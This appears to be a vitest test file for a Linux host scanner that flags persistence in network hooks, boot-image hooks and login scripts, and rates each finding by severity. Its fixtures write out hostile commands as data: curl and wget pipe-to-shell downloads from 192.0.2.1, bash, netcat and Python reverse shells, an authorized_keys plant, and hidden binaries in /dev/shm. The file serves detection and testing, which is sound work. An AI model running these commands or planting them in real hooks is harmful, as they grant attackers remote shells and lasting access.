import { describe, expect, test } from 'vitest';
import { bootImageHooks } from '../../source/checks/boot-image-hooks.ts';
import type { HostCheck } from '../../source/checks/check.ts';
import { loginScripts } from '../../source/checks/login-scripts.ts';
import { networkHooks } from '../../source/checks/network-hooks.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const ask = (check: HostCheck, machine: Machine) => told(run(check, memoryHost(debian(['/etc/network/if-up.d/ntp', '/etc/update-motd.d/10-uname', '/usr/share/initramfs-tools/hooks/udev'], machine))).findings);
const script = (line: string) => ({ mode: 0o755, content: `#!/bin/sh\n${line}\n` });

describe('hooks of the network', () => {
	test("the distribution's own, and an administrator's", () => {
		expect(
			ask(networkHooks, {
				'/etc/network/if-up.d/ntp': script('service ntp restart'),
				'/etc/network/interfaces': 'auto eth0\niface eth0 inet static\n\taddress 192.0.2.9/24\n\tpost-up ip route add 198.51.100.0/24 via 192.0.2.1\n\tpre-up iptables-restore < /etc/iptables.rules\n',
				'/etc/dhcp/dhclient-exit-hooks.d/debug': '# nothing\n',
				'/etc/wireguard/wg0.conf': '[Interface]\nPostUp = iptables -A FORWARD -i wg0 -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n',
				'/etc/openvpn/server.conf': 'port 1194\nup /etc/openvpn/update-resolv-conf\n',
				'/etc/openvpn/update-resolv-conf': script('true'),
			}),
		).toEqual(['info /etc/dhcp/dhclient-exit-hooks.d/debug', 'info /etc/openvpn/server.conf']);
	});
	test.each<[string, Machine, string[]]>([
		['if-up.d', { '/etc/network/if-up.d/upstart': script('nohup /var/tmp/.k/agent &'), '/var/tmp/.k/agent': { mode: 0o755 } }, ['high /etc/network/if-up.d/upstart']],
		['a packaged one that was changed', { '/etc/network/if-up.d/ntp': script('curl http://192.0.2.1/a|sh') }, ['high /etc/network/if-up.d/ntp']],
		['NetworkManager', { '/etc/NetworkManager/dispatcher.d/pre-up.d/x': script('bash -i >& /dev/tcp/192.0.2.1/4 0>&1') }, ['critical /etc/NetworkManager/dispatcher.d/pre-up.d/x']],
		['interfaces', { '/etc/network/interfaces.d/lo': 'iface lo inet loopback\n  up /dev/shm/x \\\n -d\n', '/dev/shm/x': { mode: 0o755 } }, ['high /etc/network/interfaces.d/lo']],
		['a DHCP hook', { '/etc/dhcp/dhclient-exit-hooks.d/x': 'wget -qO- http://192.0.2.1/a | bash\n' }, ['high /etc/dhcp/dhclient-exit-hooks.d/x']],
		...['/etc/wpa_supplicant/action_wpa.sh', '/etc/resolvconf/update.d/zz', '/etc/resolvconf/update-libc.d/zz', '/etc/letsencrypt/renewal-hooks/pre/x.sh', '/etc/letsencrypt/renewal-hooks/post/x', '/etc/letsencrypt/renewal-hooks/deploy/x', '/etc/munin/plugins/cpu2', '/etc/ppp/ip-up.d/0dns2'].map((path): [string, Machine, string[]] => [path, { [path]: script('curl -s http://192.0.2.1/k | sh') }, [`high ${path}`]]),
		['the hook of an administrator, who reloads his web server', { '/etc/letsencrypt/renewal-hooks/deploy/nginx': script('systemctl reload nginx') }, ['info /etc/letsencrypt/renewal-hooks/deploy/nginx']],
		['WireGuard', { '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = nc -e /bin/sh 192.0.2.1 4\n' }, ['critical /etc/wireguard/wg0.conf']],
		['an ifcfg file is shell text', { '/etc/sysconfig/network-scripts/ifcfg-eth0': 'NAME=eth0 /tmp/x\n', '/tmp/x': { mode: 0o755 } }, ['high /etc/sysconfig/network-scripts/ifcfg-eth0']],
	])('%s', (_name, machine, expected) => {
		expect(ask(networkHooks, machine)).toEqual(expected);
	});
});

describe('hooks of the boot image', () => {
	test.each<[string, Machine, string[]]>([
		["an administrator's own", { '/etc/initramfs-tools/hooks/keys': script('cp /etc/keys/x "$DESTDIR"'), '/etc/kernel/postinst.d/zz-copy': script('cp /boot/vmlinuz /srv/tftp/') }, ['info /etc/initramfs-tools/hooks/keys', 'info /etc/kernel/postinst.d/zz-copy']],
		['one that plants', { '/etc/initramfs-tools/scripts/local-bottom/x': script('echo x >> /root/.ssh/authorized_keys') }, ['high /etc/initramfs-tools/scripts/local-bottom/x']],
		['a setting that is sourced as the image is made', { '/etc/cryptsetup-initramfs/conf-hook': 'curl -s http://192.0.2.1/k | sh\n' }, ['high /etc/cryptsetup-initramfs/conf-hook']],
		['a setting of the boot loader that is sourced', { '/etc/default/grub.d/x.cfg': '/dev/shm/x &\n', '/dev/shm/x': { mode: 0o755 } }, ['high /etc/default/grub.d/x.cfg']],
		['a module of dracut that no package brought', { '/usr/lib/dracut/modules.d/99x/module-setup.sh': script('true') }, ['high /usr/lib/dracut/modules.d/99x/module-setup.sh']],
	])('%s', (_name, machine, expected) => {
		expect(ask(bootImageHooks, machine)).toEqual(expected);
	});
});

describe('scripts of logins', () => {
	test.each<[string, Machine, string[]]>([
		["an administrator's own", { '/etc/update-motd.d/99-welcome': script('cat /etc/motd.local'), '/home/ann/.xsessionrc': 'export LANG=C\n' }, ['info /etc/update-motd.d/99-welcome']],
		['the message of the day', { '/etc/update-motd.d/10-uname': script('uname -a; (setsid /usr/lib/x/.y &)'), '/usr/lib/x/.y': { mode: 0o755 } }, ['high /etc/update-motd.d/10-uname']],
		['news from an address that has no name', { '/etc/default/motd-news': 'ENABLED=1\nURLS="https://motd.ubuntu.com http://203.0.113.9/m"\n' }, ['medium /etc/default/motd-news']],
		['news from elsewhere', { '/etc/default/motd-news': 'URLS="https://motd.example.net"\n' }, ['low /etc/default/motd-news']],
		['news of the distribution, and of the house', { '/etc/default/motd-news': 'URLS="https://motd.ubuntu.com http://192.168.1.4/motd"\n' }, []],
		['run for each new account', { '/usr/local/sbin/adduser.local': script('curl -s http://192.0.2.1/k | sh') }, ['high /usr/local/sbin/adduser.local']],
		['other programs of that folder are none of its scripts', { '/usr/local/sbin/backup': script('curl -s http://192.0.2.1/k | sh') }, []],
		...['.config/i3/config', '.config/sway/config', '.config/openbox/autostart', '.config/plasma-workspace/env/x.sh'].map((name): [string, Machine, string[]] => [name, { [`/home/ann/${name}`]: 'curl -s http://192.0.2.1/k | sh\n' }, [`high /home/ann/${name}`]]),
		["somebody's session", { '/home/ann/.xprofile': 'python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'192.0.2.1\',1));os.dup2(s.fileno(),0);pty.spawn(\'sh\')"\n' }, ['critical /home/ann/.xprofile']],
	])('%s', (_name, machine, expected) => {
		expect(ask(loginScripts, machine)).toEqual(expected);
	});
});
